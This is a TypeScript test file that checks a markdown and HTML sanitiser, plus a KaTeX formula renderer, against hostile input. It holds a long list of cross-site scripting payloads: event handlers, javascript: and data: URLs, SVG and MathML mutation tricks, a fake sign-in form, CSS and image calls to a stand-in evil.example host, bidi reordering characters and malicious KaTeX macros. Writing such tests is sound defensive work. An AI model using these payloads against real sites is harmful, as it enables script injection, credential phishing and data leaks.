import { describe, expect, it } from 'vitest';

import { BlockRenderer } from './blocks';
import { drawMath } from './math';
import { renderInto } from './sink';

/** Hostile HTML, given to the sink directly as if the markdown renderer had let it through. */
const attacks: Record<string, string> = {
  script: '<script>alert(1)</script>',
  'script in upper case': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  onerror: '<img src=x onerror=alert(1)>',
  'onerror split by a slash': '<img/src="x"/onerror=alert(1)>',
  onload: '<body onload=alert(1)>',
  onfocus: '<input autofocus onfocus=alert(1)>',
  ontoggle: '<details open ontoggle=alert(1)>x</details>',
  javascript: '<a href="javascript:alert(1)">x</a>',
  'javascript in mixed case': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'javascript with a tab': '<a href="java\tscript:alert(1)">x</a>',
  'javascript by entities': '<a href="&#106;avascript&colon;alert(1)">x</a>',
  'javascript behind a space': '<a href=" javascript:alert(1)">x</a>',
  vbscript: '<a href="vbscript:msgbox(1)">x</a>',
  'data html': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'data html image': '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  'data svg image': '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  blob: '<a href="blob:https://hearth/1">x</a>',
  file: '<a href="file:///etc/passwd">x</a>',
  'own server': '<a href="/hearth/session">x</a>',
  'own server by scheme': '<a href="//evil.example">x</a>',
  'network image': '<img src="https://evil.example/pixel.png">',
  'image set': '<img srcset="https://evil.example/pixel.png 1x">',
  svg: '<svg onload=alert(1)><script>alert(1)</script></svg>',
  'svg use': '<svg><use href="data:image/svg+xml,<svg id=x>#x"/></svg>',
  'svg animate': '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
  'foreign object': '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  mathml:
    '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
  'mathml link': '<math href="javascript:alert(1)"><mi>x</mi></math>',
  iframe: '<iframe src="https://evil.example"></iframe>',
  srcdoc: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  object: '<object data="https://evil.example/x.swf"></object>',
  embed: '<embed src="https://evil.example/x.swf">',
  form: '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  button: '<button formaction="javascript:alert(1)">x</button>',
  style: '<style>*{background:url(https://evil.example)}</style>',
  'style attribute': '<p style="position:fixed;inset:0">x</p>',
  'stylesheet link': '<link rel=stylesheet href=https://evil.example/x.css>',
  meta: '<meta http-equiv=refresh content="0;url=https://evil.example">',
  base: '<base href="https://evil.example/">',
  'clobbered id': '<a id=app name=document href="https://ok.example">x</a>',
  'foreign class': '<p class="menu toast primary">x</p>',
  'custom element': '<hearth-admin onclick=alert(1)>x</hearth-admin>',
  template: '<template><script>alert(1)</script></template>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'title break-out': '<a title="</a><img src=x onerror=alert(1)>" href="https://ok.example">x</a>',
  'comment break-out': '<!--><img src=x onerror=alert(1)>-->',
  'cdata break-out': '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'nested table mutation': '<table><td><table><style><!--</style><img src=x onerror=alert(1)>-->',
  video: '<video src="https://evil.example/x" onerror=alert(1)><source src=x></video>',
};

const allowed_tags =
  /^(p|br|hr|h[1-6]|blockquote|ul|ol|li|pre|code|em|strong|s|del|a|img|span|table|thead|tbody|tr|th|td)$/;
const allowed_attributes = /^(href|title|src|alt|class|start|align|target|rel)$/;

function expectHarmless(target: Element): void {
  for (const element of target.querySelectorAll('*')) {
    expect(element.localName).toMatch(allowed_tags);
    expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    for (const { name } of element.attributes) expect(name).toMatch(allowed_attributes);
    const href = element.getAttribute('href');
    if (href !== null) {
      expect(href).toMatch(/^(https?:\/\/|mailto:)/i);
      expect(element.getAttribute('rel')).toContain('noopener');
      expect(element.getAttribute('target')).toBe('_blank');
    }
    const src = element.getAttribute('src');
    if (src !== null) expect(src).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
    for (const name of element.classList) expect(name).toMatch(/^(language-|hljs)/);
  }
}

function draw(markdown: string): HTMLElement {
  const target = document.createElement('div');
  for (const block of new BlockRenderer().update(markdown, true)) {
    const part = target.appendChild(document.createElement('div'));
    if (block.code) part.textContent = block.code.text;
    else renderInto(part, block.html);
    expectHarmless(part);
  }
  return target;
}

describe('the sink', () => {
  it.each(Object.entries(attacks))('disarms %s', (_name, html) => {
    const target = document.createElement('div');
    renderInto(target, html);
    expectHarmless(target);
  });

  it('keeps what markdown needs', () => {
    const target = document.createElement('div');
    const html =
      '<ol start="3"><li><a href="https://ok.example/?q=1" title="t">x</a></li></ol>' +
      '<table><tbody><tr><td align="right">1</td></tr></tbody></table>' +
      '<pre><code class="language-rust"><span class="hljs-keyword">fn</span></code></pre>' +
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">';
    renderInto(target, html);
    expect(target.querySelector('ol')?.getAttribute('start')).toBe('3');
    expect(target.querySelector('td')?.getAttribute('align')).toBe('right');
    expect(target.querySelector('code')?.className).toBe('language-rust');
    expect(target.querySelector('span')?.className).toBe('hljs-keyword');
    expect(target.querySelector('img')?.getAttribute('src')).toContain('data:image/png');
    expect(target.querySelector('a')?.rel).toBe('noopener noreferrer nofollow');
  });
});

describe('markdown', () => {
  it.each(Object.entries(attacks))('shows %s as text', (_name, html) => {
    draw(html);
    draw(`before\n\n${html}\n\nafter`);
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](<javascript:alert(1)>)',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '![x](https://evil.example/pixel.png)',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)\n\n[x]',
    '[x](/hearth/session)',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    '- ```html" onmouseover="alert(1)\n  code\n  ```',
    '| a |\n|:-:|\n| <img src=x onerror=alert(1)> |',
    '[x](https://ok.example "\\" onmouseover=alert(1)")',
  ])('disarms %s', (markdown) => {
    draw(markdown);
  });

  it('turns a picture from the network into a link', () => {
    const link = draw('![a cat](https://pictures.example/cat.png)').querySelector('a');
    expect([link?.href, link?.textContent]).toEqual(['https://pictures.example/cat.png', 'a cat']);
  });

  it('shows characters that reorder text instead of obeying them', () => {
    const hostile = 'if (admin\u202e \u2066// check\u2069 \u2066) {';
    for (const markdown of [hostile, `\`${hostile}\``, `\`\`\`js\n${hostile}\n\`\`\``]) {
      expect(draw(markdown).textContent).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    }
  });
});

describe('formulas', () => {
  async function formula(markdown: string): Promise<HTMLElement> {
    const target = document.createElement('div');
    document.body.replaceChildren(target);
    for (const block of new BlockRenderer().update(markdown, true)) renderInto(target, block.html);
    drawMath(target);
    // KaTeX is fetched first; what it refuses stays code.
    await import('katex');
    await new Promise((resolve) => setTimeout(resolve, 0));
    return target;
  }

  it.each([
    ['so $x^2$ is', 'math'],
    ['so \\(x^2\\) is', 'math'],
    ['$$\n\\frac{a}{b}\n$$', '.math-display math'],
    ['\\[ \\sum_i i \\]', '.math-display math'],
  ])('are drawn: %s', async (markdown, selector) => {
    const target = await formula(markdown);
    expect(target.querySelector(selector)).not.toBeNull();
    expect(target.querySelector('code')).toBeNull();
    expect(target.querySelector('annotation')).toBeNull();
  });

  it.each(['it costs $5 and $6', 'a $ sign', '`$x$`', '\\$x$ y'])(
    'leave text alone: %s',
    async (markdown) => {
      expect((await formula(markdown)).querySelector('math')).toBeNull();
    },
  );

  it.each([
    '$\\href{javascript:alert(1)}{x}$',
    '$\\htmlData{onclick=alert(1)}{x}$',
    '$\\htmlStyle{background:url(https://evil.example)}{x}$',
    '$\\includegraphics{https://evil.example/x.png}$',
    '$\\text{<img src=x onerror=alert(1)>}$',
    '$\\def\\a{\\a\\a}\\a$',
  ])('bring nothing in that runs or calls home: %s', async (markdown) => {
    const target = await formula(markdown);
    for (const element of target.querySelectorAll('*')) {
      expect(element.localName).not.toMatch(/^(a|img|script|annotation.*)$/);
      for (const { name } of element.attributes) expect(name).not.toMatch(/^(on|href|src|style)/);
    }
  });
});
